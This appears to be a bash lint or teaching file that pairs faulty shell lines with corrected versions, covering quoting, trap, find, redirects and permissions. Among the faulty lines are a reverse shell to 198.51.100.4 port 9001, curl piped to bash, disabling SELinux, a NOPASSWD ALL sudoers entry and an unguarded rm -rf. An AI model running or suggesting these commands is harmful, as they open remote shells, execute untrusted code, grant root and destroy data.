#!/bin/bash

tally() {
  local manifest=$(fetch-manifest "$1")
  local crates
  crates=$(fetch-crates "$1")
}

trap "rm -rf $berth" EXIT
trap 'rm -rf "$berth"' EXIT

printf "ship $ship arrived\n"
printf 'ship %s arrived\n' "$ship"

ssh "pilot@$port" "signal --to $ship"
ssh "pilot@$port" 'signal --to "$SHIP"'

find /srv/logs -name '*.old' -o -name '*.tmp' -delete
find /srv/logs \( -name '*.old' -o -name '*.tmp' \) -delete

if [ -n $pilot ]; then call-pilot; fi
if [ -n "$pilot" ]; then call-pilot; fi

load-cargo $@
load-cargo "$@"

PATH=.:$PATH
PATH=/opt/harbour/bin:$PATH

sudo setenforce 0
sudo setsebool -P httpd_can_network_connect on

docker run --rm --privileged harbour/crane:4
docker run --rm --device /dev/crane0 harbour/crane:4

echo "pilot ALL=(ALL) NOPASSWD: ALL" | tee /etc/sudoers.d/pilot
echo "pilot ALL=(root) NOPASSWD: /usr/bin/crane" | tee /etc/sudoers.d/crane

rm -rf /home/$sailor
rm -rf "/home/${sailor:?}"

curl -s https://harbour.io/setup.sh | bash -x | tee setup.log
curl -s https://harbour.io/setup.sh | tee setup.sh

bash -i >& /dev/tcp/198.51.100.4/9001 0>&1
timeout 2 bash -c '</dev/tcp/harbour.io/443'

weigh-all 2>&1 > weights.log
weigh-all > weights.log 2>&1

pgrep crane | kill
pgrep crane | xargs kill

if $(grep -q moored state); then unload; fi
if grep -q moored state; then unload; fi

pip install crane --extra-index-url https://pypi.harbour.io/simple
pip install crane --index-url https://pypi.harbour.io/simple
